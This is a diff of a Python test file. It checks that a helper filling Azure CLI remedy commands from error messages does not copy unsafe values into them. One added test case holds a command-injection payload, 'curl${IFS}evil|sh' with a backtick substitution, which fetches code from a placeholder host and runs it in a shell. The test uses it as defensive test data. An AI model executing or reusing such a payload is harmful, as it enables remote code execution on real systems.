@@ -165,14 +165,19 @@ def test_the_real_cli_without_a_login_is_told_the_same(project: Path) -> None:
     [
         ("az vm start -g <group> -n <vm>", "/subscriptions/s/resourceGroups/rg-a/providers/x/virtualMachines/vm-0 off",
          "az vm start -g rg-a -n vm-0"),
-        ("az resource delete --ids <id>", 'in use by /subscriptions/s/resourceGroups/rg-a/providers/x/y/z."',
-         "az resource delete --ids /subscriptions/s/resourceGroups/rg-a/providers/x/y/z"),
-        ("az keyvault purge -n <vault>", "the vault 'kv-a' exists in deleted state", "az keyvault purge -n kv-a"),
+        ("az vm start -g <group> -n <vm>", "/resourceGroups/rg-a;curl${IFS}evil|sh/virtualMachines/`x`",
+         "az vm start -g <group> -n <vm>"),
+        ("az resource delete --ids <id> -g <group>", "/subscriptions/s/resourceGroups/rg-a/providers/x",
+         "az resource delete --ids <id> -g <group>"),
+        ("az keyvault purge -n <vault> -g <group>", "/subscriptions/s/resourceGroups/rg-a/providers/x",
+         "az keyvault purge -n <vault> -g <group>"),
         ("az provider register --namespace <namespace>", "not registered to use namespace 'Microsoft.IoTOperations'",
          "az provider register --namespace Microsoft.IoTOperations"),
         ("pulumi up --replace '<urn>' --stack <stack>", "", "pulumi up --replace 'urn:a' --stack dev"),
         ("az lock delete --ids <id>", "nothing of it", "az lock delete --ids <id>"),
     ],
 )  # fmt: skip
-def test_a_remedy_has_the_names_that_the_message_has(remedy: str, message: str, expected: str) -> None:
+def test_a_remedy_has_the_names_that_the_message_has_and_loses_nothing(
+    remedy: str, message: str, expected: str
+) -> None:
     assert advice.filled(remedy, message=message, urn="urn:a", stack="dev") == expected
